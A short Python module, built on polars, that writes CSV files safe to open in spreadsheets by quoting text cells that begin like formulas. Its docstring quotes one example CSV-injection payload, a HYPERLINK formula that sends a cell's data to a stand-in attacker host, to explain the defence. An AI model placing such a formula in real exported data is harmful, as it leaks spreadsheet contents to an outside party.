"""CSV that is safe to open in a spreadsheet.

A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
some spreadsheets skip before reading one of those) is run as a formula when the file
is opened: a deal named ``=HYPERLINK("http://evil.example/?"&A1, "Click")`` could send
the sheet's data away (CSV injection). Such text cells get a leading ``'``, which every
spreadsheet shows as text. Numbers stay numbers, and so does text that is a plain
number (``-1200``), which no spreadsheet runs.
"""

from __future__ import annotations

from pathlib import Path

import polars as pl

FORMULA_START = r"^[=+\-@\t\r]"
PLAIN_NUMBER = r"^[+-]?\d+(\.\d+)?$"


def spreadsheet_safe(frame: pl.DataFrame) -> pl.DataFrame:
    """``frame`` with every text cell that a spreadsheet would run as a formula quoted."""
    text = [name for name, dtype in frame.schema.items() if dtype == pl.String]
    return frame.with_columns(
        pl.when(pl.col(name).str.contains(FORMULA_START) & ~pl.col(name).str.contains(PLAIN_NUMBER))
        .then(pl.lit("'") + pl.col(name))
        .otherwise(pl.col(name))
        .alias(name)
        for name in text
    )


def csv_text(frame: pl.DataFrame) -> str:
    """The frame as CSV text, safe to open in a spreadsheet."""
    return spreadsheet_safe(frame).write_csv()


def write_csv(frame: pl.DataFrame, path: Path) -> None:
    """Write the frame as a CSV file, safe to open in a spreadsheet."""
    spreadsheet_safe(frame).write_csv(path)
